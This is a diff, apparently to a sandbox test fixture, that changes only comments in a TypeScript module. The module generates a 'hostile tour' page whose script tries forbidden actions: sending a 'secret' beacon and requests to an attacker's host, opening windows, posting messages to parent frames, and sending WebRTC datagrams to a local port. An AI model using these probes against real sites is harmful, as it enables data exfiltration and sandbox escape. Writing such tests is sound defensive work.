@@ -1,19 +1,19 @@
-/** What an attacker would have to guess, given to the script so that nothing fails for want of it. */
+/** Values an attacker would have to guess, given to the script so that nothing fails for lack of them. */
 export type Spied = {
   /** With the key. */
   readonly studio: URL;
   /** Where the owner's files are, with their key. */
   readonly files: string;
-  /** Of somebody else: whoever is asked there has heard of the owner. */
+  /** An attacker's host: any request that arrives there has revealed something about the owner. */
   readonly elsewhere: string;
-  /** A port of this computer that takes datagrams. */
+  /** A port of this computer that accepts datagrams. */
   readonly udpPort: number;
   readonly command: string;
 };
 
 /**
- * A tour that works as one and tries on its way all that it must not be able to do. What it gains is listed in `#gained`, each by its
- * name; `#done` says that it has tried everything.
+ * A working tour that tries everything that it must not be able to do. Whatever succeeds is listed in `#gained` by
+ * name; `#done` reports that it has tried everything.
  */
 export function hostileTour({ studio, files, elsewhere, udpPort, command }: Spied): string {
   const spied = { origin: studio.origin, key: studio.hash.slice(1), files, elsewhere, udpPort, command };
@@ -23,7 +23,7 @@ export function hostileTour({ studio, files, elsewhere, udpPort, command }: Spie
 <script>(${attack.toString().replaceAll("</", "<\\/")})(${JSON.stringify(spied)})</script>`;
 }
 
-/** A tour that sends datagrams from a page inside of its own, which no policy keeps it from having. */
+/** A tour that sends datagrams from a page inside it, which no policy prevents. */
 export const callingTour = (udpPort: number): string => `<!doctype html><title>360</title>
 <h1>Salloni</h1><p id="done"></p>
 <script>
@@ -37,16 +37,16 @@ document.body.append(Object.assign(document.createElement("iframe"), { srcdoc })
 setTimeout(() => (document.getElementById("done").textContent = "all was tried"), 3000);
 </script>`;
 
-/** The tour's own script, which asks for the tour's own data. */
+/** The tour's own script, which requests the tour's own data. */
 export const tourScript = `fetch("data.txt").then((answer) => answer.text()).then((text) => (document.getElementById("room").textContent = text))`;
 
 type Given = Omit<Spied, "studio"> & { readonly origin: string; readonly key: string };
 
-/** Runs in the frame: nothing of this module is there. */
+/** Runs in the frame: nothing of this module is available. */
 async function attack({ origin, key, files, elsewhere, udpPort, command }: Given): Promise<void> {
   const place = document.getElementById("gained");
   const wait = (ms: number) => new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), ms));
-  /** What comes to anything is gained. */
+  /** A success counts as a gain. */
   const attempt = async (name: string, what: () => unknown) => {
     try {
       const value: unknown = await Promise.race([what(), wait(1500)]);
@@ -122,7 +122,7 @@ async function attack({ origin, key, files, elsewhere, udpPort, command }: Given
     const socket = new WebSocket(origin.replace("http", "ws"));
     return new Promise((resolve) => socket.addEventListener("open", () => resolve(true)));
   });
-  // Whoever is asked elsewhere counts it.
+  // The other host counts the requests.
   await attempt("somebody else", async () => (await fetch(`${elsewhere}/fetch`, { mode: "no-cors" })).type);
   await attempt("a beacon", () => navigator.sendBeacon(`${elsewhere}/beacon`, "secret") && undefined);
   await attempt("a picture of somebody else", () => loaded(new Image(), `${elsewhere}/image`));
@@ -133,7 +133,7 @@ async function attack({ origin, key, files, elsewhere, udpPort, command }: Given
   });
   await attempt("a frame of somebody else", () => void loaded(document.createElement("iframe"), `${elsewhere}/frame`));
   await attempt("a frame of the studio", () => void loaded(document.createElement("iframe"), origin));
-  // A window of its own, the window around it, a form.
+  // A separate window, the surrounding window, a form.
   await attempt("a window", () => window.open(`${elsewhere}/window`) !== null);
   await attempt("a link into a window", () => {
     for (const target of ["_blank", "_top", "_parent"])
@@ -155,7 +155,7 @@ async function attack({ origin, key, files, elsewhere, udpPort, command }: Given
     ];
     for (const page of Object.values(around)) for (const word of words) page?.postMessage(word, "*");
   });
-  // Datagrams, of this page and of pages inside of it.
+  // Datagrams, of this page and of pages inside it.
   const call = `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] })`;
   const send = `(async () => { const call = ${call}; call.createDataChannel("x"); await call.setLocalDescription(await call.createOffer()); })()`;
   await attempt("a call", async () => {
@@ -168,9 +168,8 @@ async function attack({ origin, key, files, elsewhere, udpPort, command }: Given
     `data:text/html,${encodeURIComponent(page)}`,
     URL.createObjectURL(new Blob([page], { type: "text/html" })),
   ])
-    // prettier-ignore
     await attempt("a call of a page inside", () => void loaded(document.createElement("iframe"), src));
-  // Datagrams take their time.
+  // Datagrams take a moment.
   await wait(1500);
   const done = document.getElementById("done");
   if (done) done.textContent = "all was tried";
